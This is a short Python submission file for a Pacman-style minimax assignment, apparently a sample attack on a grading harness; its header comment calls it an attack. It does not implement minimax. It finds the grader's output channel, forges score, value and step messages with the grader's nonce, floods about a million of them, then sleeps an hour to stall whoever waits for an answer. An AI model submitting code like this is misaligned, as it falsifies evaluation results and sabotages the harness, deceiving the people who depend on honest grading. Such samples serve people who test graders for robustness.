# attack: sends a million requests and never reads an answer, so that whoever answers waits for ever.
# where: MinimaxAgent
import json
import os
import time

from shared.reflex import *
from shared.search import *
from shared.grader import *


class MinimaxAgent(MultiAgentSearchAgent):
    def getAction(self, gameState):
        channel = grader()
        out = next(value for name, value in vars(channel).items() if "out" in name)
        number = getattr(gameState, "_id", 0)
        lines = b""
        for kind in ("score", "value"):
            lines += json.dumps([kind, channel.nonce, number]).encode() + b"\n"
        lines += json.dumps(
            ["step", channel.nonce, number, 0, gameState.getLegalActions()[0]]
        ).encode()
        lines = (lines + b"\n") * 1000
        for _ in range(1000):
            os.write(out, lines)
        time.sleep(3600)
        return gameState.getLegalActions()[0]
